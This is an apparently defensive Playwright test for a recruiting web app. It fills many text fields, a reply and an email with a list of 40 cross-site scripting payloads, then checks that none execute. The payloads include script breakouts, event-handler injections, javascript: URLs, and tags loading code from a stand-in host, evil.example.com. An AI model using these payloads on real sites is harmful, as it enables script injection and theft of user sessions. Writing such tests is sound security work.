import { type Page, expect, test } from "@playwright/test";
import { ask, press, signIn } from "../house";
import { toldTo } from "../letters";

test.use({ locale: "zh-CN" });

const RUN = "window.ran=1";
/** What people have put into text fields to make a browser do something. */
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example.com/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `' onfocus='${RUN}' autofocus='`,
  `" onmouseover="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<link rel=stylesheet href=//evil.example.com/x.css>`,
  `<style>@import '//evil.example.com/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example.com/>`,
  `javascript:${RUN}`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u2028\u2029";${RUN};//`,
];
const ALL = PAYLOADS.join(" ");
/** Some of them, within the length of a short field. */
const short = (from: number, length: number) => PAYLOADS.slice(from).concat(PAYLOADS).join(" ").slice(0, length);

/** Notes everything a page should never do. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => {
    if (/lower/.test(error.message)) seen.push(error.message);
  });
  page.on("request", (request) => {
    if (/evil\.example\.com/.test(request.url())) seen.push(`asked ${request.url()}`);
  });
  page.on("console", (message) => {
    if (/Content Security Policy|violates the following/i.test(message.text())) seen.push(message.text());
  });
  return seen;
}

async function expectNothingRan(page: Page, seen: string[]): Promise<void> {
  expect(await page.evaluate(() => "ran" in globalThis), page.url()).toBe(false);
  expect(seen, page.url()).toEqual([]);
}

test("whatever was typed into a field stays text, for the candidate and for colleagues", async ({ page }) => {
  test.setTimeout(180_000);
  expect(PAYLOADS).toHaveLength(40);
  const seen = watch(page);
  const told = await toldTo({
    clear: true,
    position: {
      statusReason: ALL.slice(0, 500),
      // Words of its own: what the letter says must not repeat what stands in an internal text.
      fallback: { title: "初级<img src=y onerror=lower()>", status: "open", description: "<svg onload=lower()>" },
    },
    scorecard: {
      interviewer: { name: short(15, 60), email: "x@example.com" },
      comments: [
        { dimension: "conc", text: ALL.slice(0, 2000), by: short(20, 60), shareable: true },
        { dimension: null, text: ALL.slice(-1900), by: short(25, 60), shareable: false },
      ],
      testResults: [
        {
          name: `上机题${short(30, 100)}`,
          dimension: "sc",
          score: 55,
          max: 100,
          questions: [
            { topic: short(0, 150), expected: short(8, 180), given: short(16, 180), points: 3, maxPoints: 10 },
          ],
        },
      ],
    },
    note: ALL.slice(0, 1900),
    submissionNote: short(5, 450),
  });
  const answer = await press(`${told.page}/reply`, { kind: "question", text: ALL.slice(0, 2000) });
  expect(answer.status).toBe(303);
  for (const lang of ["zh-CN", "en"]) {
    await page.goto(`${told.page}?lang=${lang}`);
    await expect(page.locator("#talk")).toContainText(PAYLOADS[0]!);
    await expectNothingRan(page, seen);
  }
  // The mail as a mail program with scripts switched on would show it.
  await page.goto("about:blank");
  await page.setContent(told.mail.html);
  await expectNothingRan(page, seen);

  const { positionId } = await ask<{ positionId: string }>("GET", `/applications/${told.applicationId}`);
  await signIn(page);
  const home = `/applications/${told.applicationId}`;
  for (const path of [
    "/today",
    "/candidates",
    home,
    `${home}/strategy`,
    `${home}/letter`,
    `${home}/scorecard`,
    `/conversations/${told.applicationId}`,
    `/positions/${positionId}`,
    "/positions",
    "/approvals",
    "/settings/mailbox",
  ]) {
    const response = await page.goto(path);
    expect(response!.status(), path).toBeLessThan(500);
    await page.waitForLoadState("load");
    await expectNothingRan(page, seen);
  }
});
